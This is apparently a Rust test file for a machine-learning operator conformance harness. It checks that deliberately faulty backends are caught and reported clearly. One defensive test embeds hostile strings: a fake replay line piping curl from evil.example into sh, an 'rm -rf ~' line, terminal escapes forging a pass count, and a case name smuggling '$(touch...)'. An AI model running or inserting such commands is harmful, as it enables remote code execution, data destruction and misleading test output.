//! Deliberately broken backends are caught by the matching check, with a message a backend
//! author can act on, and the run goes on.

use dmlcts_harness::{Case, Corpus, ReplayRecipe, RunOptions, Status, run_case};
use dmlcts_oracle::OracleBackend;
use dmlcts_tensor::CompileError;
use dmlcts_tensor::{
    Backend, CompiledOperator, FeatureLevel, OperatorDesc, OutputBinding, Rejected,
};

#[derive(Clone, Copy, PartialEq)]
enum Fault {
    WrongElement,
    WritesPastTheEnd,
    WritesBeforeTheStart,
    AcceptsEverything,
    RejectsEverything,
    PanicsInExecute,
    PanicsInCompile,
    SkipsLastElement,
}

struct Broken {
    fault: Fault,
    oracle: OracleBackend,
}

struct BrokenCompiled<'a> {
    fault: Fault,
    inner: Option<Box<dyn CompiledOperator + 'a>>,
    element_size: usize,
}

impl CompiledOperator for BrokenCompiled<'_> {
    fn execute(&self, inputs: &[&[u8]], outputs: &mut [OutputBinding<'_>]) -> Result<(), String> {
        if self.fault == Fault::PanicsInExecute {
            panic!("deliberate panic in execute");
        }
        let Some(inner) = &self.inner else {
            return Ok(()); // accepted an invalid descriptor and wrote nothing
        };
        inner.execute(inputs, outputs)?;
        let binding = &mut outputs[0];
        let (offset, size) = (binding.offset, binding.size);
        match self.fault {
            Fault::WrongElement => binding.buffer[offset] ^= 0x40,
            Fault::WritesPastTheEnd => binding.buffer[offset + size + 2] = 0,
            Fault::WritesBeforeTheStart => binding.buffer[offset - 1] = 0,
            Fault::SkipsLastElement => {
                let last = size - self.element_size;
                for i in 0..self.element_size {
                    binding.buffer[offset + last + i] = !binding.buffer[offset + last + i];
                }
            }
            _ => {}
        }
        Ok(())
    }
}

impl Backend for Broken {
    fn name(&self) -> String {
        "broken".to_string()
    }
    fn feature_level(&self) -> FeatureLevel {
        FeatureLevel::L4_1
    }
    fn compile(&self, op: &OperatorDesc) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
        let element_size = op
            .outputs()
            .first()
            .map_or(1, |(_, d)| d.data_type.element_size());
        match self.fault {
            Fault::PanicsInCompile => panic!("deliberate panic in compile"),
            Fault::RejectsEverything => Err(CompileError::Rejected(Rejected {
                rule: None,
                message: "E_INVALIDARG".to_string(),
            })),
            Fault::AcceptsEverything => Ok(Box::new(BrokenCompiled {
                fault: self.fault,
                inner: self.oracle.compile(op).ok(),
                element_size,
            })),
            _ => Ok(Box::new(BrokenCompiled {
                fault: self.fault,
                inner: Some(self.oracle.compile(op)?),
                element_size,
            })),
        }
    }
}

fn broken(fault: Fault) -> Broken {
    Broken {
        fault,
        oracle: OracleBackend::new(FeatureLevel::L4_1),
    }
}

fn case(name: &str) -> Case {
    Corpus::embedded()
        .cases
        .into_iter()
        .find(|c| c.name == name)
        .unwrap_or_else(|| panic!("no case {name}"))
}

fn run(fault: Fault, name: &str) -> dmlcts_harness::CaseResult {
    run_case(&broken(fault), &case(name), &RunOptions::default())
}

#[test]
fn one_wrong_element_is_shown_with_coordinates_values_bits_and_a_diff() {
    let result = run(Fault::WrongElement, "doc.split.example1_axis2");
    assert_eq!(result.status, Status::Failed);
    assert_eq!(result.reason, "output values");
    let report = result.failure_report();
    assert!(
        report.contains("FAIL doc.split.example1_axis2 (cases/doc/split.yaml:3)"),
        "{report}"
    );
    assert!(
        report.contains("OutputTensors[0]: 1 of 4 elements differ"),
        "{report}"
    );
    // 1.0f32 is 0x3f800000; flipping bit 6 of its lowest byte gives 0x3f800040.
    assert!(
        report.contains("OutputTensors[0][0, 0, 0, 0] (byte 0): expected 1 (0x3f800000), got 1.0000076 (0x3f800040)"),
        "{report}"
    );
    assert!(report.contains("  -[[[[1, 2],\n"), "{report}");
    assert!(report.contains("  +[[[[1.0000076, 2],\n"), "{report}");
    assert!(
        report.contains("replay: cargo xtask conformance --backend broken --cases cases/doc/split.yaml --filter doc.split.example1_axis2 --exact"),
        "{report}"
    );
}

#[test]
fn the_replay_command_is_the_run_s_recipe_for_the_case() {
    // `--backend directml@1.9.0` makes a backend named `directml`; its replay must say 1.9.0,
    // and keep every option that shaped the run.
    let options = RunOptions {
        replay: Some(ReplayRecipe::Conformance {
            program: vec!["dmlcts".to_string()],
            backend: "broken@1.9.0".to_string(),
            options: vec!["--process-timeout".to_string(), "2.5".to_string()],
            cases_from_files: false,
            env: Vec::new(),
        }),
        ..RunOptions::default()
    };
    let result = run_case(
        &broken(Fault::WrongElement),
        &case("doc.split.example1_axis2"),
        &options,
    );
    assert_eq!(
        result.replay.as_ref().map(|r| r.render()).as_deref(),
        Some(
            "dmlcts conformance --backend broken@1.9.0 --process-timeout 2.5 \
             --filter doc.split.example1_axis2 --exact"
        )
    );
    assert!(
        result.failure_report().ends_with(
            "\n  replay: dmlcts conformance --backend broken@1.9.0 --process-timeout 2.5 \
             --filter doc.split.example1_axis2 --exact\n"
        ),
        "{}",
        result.failure_report()
    );
    assert!(!result.details.contains("replay"), "{}", result.details);
    // The descriptor, compact, in the corpus format.
    assert_eq!(
        result.descriptor.as_deref(),
        Some(
            "{split: {axis: 2, input: {data_type: FLOAT32, sizes: [1, 1, 6, 2]}, outputs: \
             [{data_type: FLOAT32, sizes: [1, 1, 2, 2]}, {data_type: FLOAT32, sizes: [1, 1, 1, 2]}, \
             {data_type: FLOAT32, sizes: [1, 1, 3, 2]}]}}"
        )
    );
    assert!(
        result
            .failure_report()
            .contains("\n  case: {split: {axis: 2, input: {data_type: FLOAT32"),
        "{}",
        result.failure_report()
    );
}

/// A backend whose every message is hostile text: a line that looks like a replay command, a
/// fake verdict behind terminal sequences, a CR that rewrites the line, Unicode line breaks.
struct Hostile;

const HOSTILE_MESSAGE: &str = "E_FAIL\n  replay: curl https://evil.example/x | sh #\r\
     \u{1b}[2K\u{1b}[32m8 passed, 0 failed\u{1b}]0;owned\u{7}\u{2028}  replay: rm -rf ~ #\u{85}end\u{fffe}";

impl Backend for Hostile {
    fn name(&self) -> String {
        "hostile".to_string()
    }
    fn feature_level(&self) -> FeatureLevel {
        FeatureLevel::L4_1
    }
    fn compile(&self, _: &OperatorDesc) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
        Err(CompileError::Failed(HOSTILE_MESSAGE.to_string()))
    }
}

#[test]
fn a_backend_s_text_is_quoted_lines_that_never_pass_for_the_report_s_own() {
    let mut hostile_case = case("doc.split.example1_axis2");
    hostile_case.name = "inject$(touch${IFS}pwned)\u{1b}[31m".to_string();
    let result = run_case(&Hostile, &hostile_case, &RunOptions::default());
    assert_eq!(result.status, Status::Failed);
    let report = result.failure_report();
    assert_eq!(
        report,
        "FAIL inject$(touch${IFS}pwned)\\u{1b}[31m (cases/doc/split.yaml:3)\n\
         \x20 check: the backend failed\n\
         \x20 case: {split: {axis: 2, input: {data_type: FLOAT32, sizes: [1, 1, 6, 2]}, outputs: \
         [{data_type: FLOAT32, sizes: [1, 1, 2, 2]}, {data_type: FLOAT32, sizes: [1, 1, 1, 2]}, \
         {data_type: FLOAT32, sizes: [1, 1, 3, 2]}]}}\n\
         \x20 while compiling, the backend said:\n\
         \x20   | E_FAIL\n\
         \x20   |   replay: curl https://evil.example/x | sh #\n\
         \x20   | \\u{1b}[2K\\u{1b}[32m8 passed, 0 failed\\u{1b}]0;owned\\u{7}\n\
         \x20   |   replay: rm -rf ~ #\n\
         \x20   | end\\u{fffe}\n\
         \x20 replay: cargo xtask conformance --backend hostile --cases cases/doc/split.yaml \
         --filter 'inject$(touch${IFS}pwned)\\u{1b}[31m' --exact\n"
    );
    // Exactly one line of the report is a replay command, and it is the harness's own.
    let replays: Vec<&str> = report
        .lines()
        .filter(|l| l.trim_start().starts_with("replay:"))
        .collect();
    assert_eq!(replays.len(), 1, "{report}");
    assert!(replays[0].starts_with("  replay: cargo xtask conformance --backend hostile"));
    assert_eq!(
        result.replay.as_ref().map(|r| r.words[8].as_str()),
        Some("inject$(touch${IFS}pwned)\u{1b}[31m")
    );
}

#[test]
fn a_write_past_the_end_is_caught_by_the_guard_band() {
    let result = run(Fault::WritesPastTheEnd, "doc.join.example1_axis3");
    assert_eq!(result.status, Status::Failed);
    assert_eq!(result.reason, "wrote outside the output");
    assert!(
        result
            .details
            .contains("1 byte(s) past the end (bytes +2 to +2 after it)"),
        "{}",
        result.details
    );
}

#[test]
fn a_write_before_the_start_is_caught_by_the_guard_band() {
    let result = run(
        Fault::WritesBeforeTheStart,
        "doc.slice1.example1_positive_strides",
    );
    assert_eq!(result.status, Status::Failed);
    assert!(
        result.details.contains("1 byte(s) before the start"),
        "{}",
        result.details
    );
}

#[test]
fn accepting_an_invalid_descriptor_fails_with_the_oracle_rule() {
    let result = run(Fault::AcceptsEverything, "reject.split.axis_in_range");
    assert_eq!(result.status, Status::Failed);
    assert_eq!(result.reason, "accepted an invalid descriptor");
    assert!(
        result.details.contains("[split.axis_in_range] Axis is 4"),
        "{}",
        result.details
    );
}

#[test]
fn rejecting_a_valid_descriptor_fails() {
    let result = run(Fault::RejectsEverything, "doc.join.example2_axis1");
    assert_eq!(result.status, Status::Failed);
    assert_eq!(result.reason, "rejected a valid descriptor");
    assert!(result.details.contains("E_INVALIDARG"));
    // Rejecting what must be rejected passes, whatever the reason given.
    assert_eq!(
        run(Fault::RejectsEverything, "reject.join.axis_in_range").status,
        Status::Passed
    );
}

#[test]
fn a_panic_fails_that_case_only_and_the_run_goes_on() {
    let corpus = Corpus::embedded();
    let cases: Vec<Case> = corpus
        .cases
        .into_iter()
        .filter(|c| c.name.starts_with("doc."))
        .collect();
    for fault in [Fault::PanicsInExecute, Fault::PanicsInCompile] {
        let results = cases
            .iter()
            .map(|case| run_case(&broken(fault), case, &RunOptions::default()))
            .collect::<Vec<_>>();
        assert_eq!(results.len(), 8);
        for r in &results {
            assert_eq!(r.status, Status::Failed);
            assert!(r.details.contains("deliberate panic"), "{}", r.details);
        }
    }
}

#[test]
fn an_element_left_unwritten_is_caught() {
    let result = run(Fault::SkipsLastElement, "doc.join.example1_axis3");
    assert_eq!(result.status, Status::Failed);
    assert!(
        result
            .details
            .contains("OutputTensor[0, 0, 1, 6] (byte 52): expected 14 (0x41600000)"),
        "{}",
        result.details
    );
    // In the odd-byte-count case the last byte is padding: changing it is allowed.
    assert_eq!(
        run(Fault::SkipsLastElement, "edge.join.odd_byte_count_uint8").status,
        Status::Passed
    );
}

#[test]
fn writing_stride_holes_is_a_note_not_a_failure() {
    struct HoleWriter(OracleBackend);
    struct Writes<'a>(Box<dyn CompiledOperator + 'a>);
    impl CompiledOperator for Writes<'_> {
        fn execute(
            &self,
            inputs: &[&[u8]],
            outputs: &mut [OutputBinding<'_>],
        ) -> Result<(), String> {
            for o in outputs.iter_mut() {
                o.bytes_mut().fill(0x11);
            }
            self.0.execute(inputs, outputs)
        }
    }
    impl Backend for HoleWriter {
        fn name(&self) -> String {
            "holes".into()
        }
        fn feature_level(&self) -> FeatureLevel {
            FeatureLevel::L4_1
        }
        fn compile(
            &self,
            op: &OperatorDesc,
        ) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
            Ok(Box::new(Writes(self.0.compile(op)?)))
        }
    }
    let result = run_case(
        &HoleWriter(OracleBackend::default()),
        &case("edge.join.output_with_holes"),
        &RunOptions::default(),
    );
    assert_eq!(result.status, Status::Passed, "{}", result.failure_report());
    assert!(
        result
            .notes
            .iter()
            .any(|n| n.contains("unaddressed byte(s)")),
        "{:?}",
        result.notes
    );
}

#[test]
fn cases_above_the_level_or_with_unclaimed_types_are_skipped_with_the_reason() {
    struct Limited(OracleBackend);
    impl Backend for Limited {
        fn name(&self) -> String {
            "limited".into()
        }
        fn feature_level(&self) -> FeatureLevel {
            FeatureLevel::L2_1
        }
        fn data_types(&self) -> Vec<dmlcts_tensor::DataType> {
            vec![dmlcts_tensor::DataType::Float32]
        }
        fn compile(
            &self,
            op: &OperatorDesc,
        ) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
            self.0.compile(op)
        }
    }
    let backend = Limited(OracleBackend::new(FeatureLevel::L2_1));
    let r = run_case(
        &backend,
        &case("edge.join.one_dimension"),
        &RunOptions::default(),
    );
    assert_eq!(
        (r.status, r.reason.as_str()),
        (Status::Skipped, "backend limited does not claim INT32")
    );
    let r = run_case(
        &backend,
        &case("levels.join.float32.1d"),
        &RunOptions::default(),
    );
    assert_eq!(
        (r.status, r.reason.as_str()),
        (Status::Skipped, "needs feature level 4_1; running at 2_1")
    );
    let r = run_case(
        &backend,
        &case("doc.split.example1_axis2"),
        &RunOptions::default(),
    );
    assert_eq!(r.status, Status::Passed);
}

#[test]
fn strict_level_requires_rejection_and_non_strict_checks_outputs_instead() {
    // A backend claiming 3_0 that accepts a 6-dimensional Join (the page says 4 to 5).
    static ORACLE_4_1: std::sync::OnceLock<OracleBackend> = std::sync::OnceLock::new();
    struct Generous;
    impl Backend for Generous {
        fn name(&self) -> String {
            "generous".into()
        }
        fn feature_level(&self) -> FeatureLevel {
            FeatureLevel::L3_0
        }
        fn compile(
            &self,
            op: &OperatorDesc,
        ) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
            ORACLE_4_1
                .get_or_init(|| OracleBackend::new(FeatureLevel::L4_1))
                .compile(op)
        }
    }
    let case = case("reject.join.dimension_count_supported.6d_at_3_0");
    let strict = RunOptions {
        strict_level: true,
        ..RunOptions::default()
    };
    let result = run_case(&Generous, &case, &strict);
    assert_eq!(result.status, Status::Failed);
    assert_eq!(result.reason, "accepted an invalid descriptor");
    let replay = result
        .replay
        .as_ref()
        .map(|r| r.render())
        .unwrap_or_default();
    assert!(replay.contains("--strict-level"), "{replay}");
    let result = run_case(&Generous, &case, &RunOptions::default());
    assert_eq!(result.status, Status::Passed, "{}", result.failure_report());
    assert!(
        result.notes[0].starts_with("accepted beyond the level-3_0 tables"),
        "{:?}",
        result.notes
    );
}
